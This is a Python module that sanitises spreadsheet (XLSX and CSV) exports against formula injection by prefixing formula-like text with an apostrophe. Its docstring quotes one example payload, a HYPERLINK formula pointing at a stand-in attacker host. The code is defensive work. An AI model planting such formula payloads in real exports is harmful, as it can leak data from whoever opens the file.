"""Spreadsheet exports (XLSX and CSV): the one place their rows are written.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula: a discipline named ``=HYPERLINK("http://evil.example/?…")``
would be a live link in the file a head of department opens. Every export writes its rows
through :func:`append_row` (XLSX) or :func:`csv_text` (CSV), which pass each value through
:func:`safe_cell`: such text gets a leading apostrophe (as OWASP advises), so it stays text also
when the file is saved again as CSV; numbers, dates and empty cells are written as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

#: the first characters that make a spreadsheet read a text as a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_STARTS = frozenset(FORMULA_STARTS)
#: values written as they are, known by their exact type
_PLAIN = frozenset({int, float, bool, type(None), Decimal, date, datetime, time})


def safe_cell(value: Any) -> Any:
    """``value`` as an export writes it: text read as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def plain_cell(text: str) -> str:
    """The text :func:`safe_cell` was given: an import reads back a file this app exported."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def append_row(sheet, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet (ordinary or write-only), its text made safe.

    A value may be a cell made for the row (a write-only sheet's styled cell); its value is made
    safe in place.
    """
    # written out rather than a call of safe_cell a value: a report of 100,000 cells pays
    # nothing measurable for it
    sheet.append([("'" + value if value[:1] in _STARTS else value) if value.__class__ is str
                  else value if value.__class__ in _PLAIN else _safe_other(value)
                  for value in values])


def _safe_other(value: Any) -> Any:
    from openpyxl.cell.cell import Cell  # here: openpyxl takes a quarter of a second to import

    if isinstance(value, Cell):
        value.value = safe_cell(value.value)
        return value
    return safe_cell(value)


def csv_text(rows: Iterable[Iterable[Any]], delimiter: str = ";") -> str:
    """Rows as CSV for Excel: a UTF-8 byte-order mark, ``;`` between cells, text made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerows([safe_cell(value) for value in row] for row in rows)
    return "\ufeff" + buffer.getvalue()


def xlsx_download(book, filename: str):
    """An openpyxl workbook as a file to download named ``filename``."""
    from flask import send_file

    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    return send_file(out, as_attachment=True, download_name=filename,
                     mimetype="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
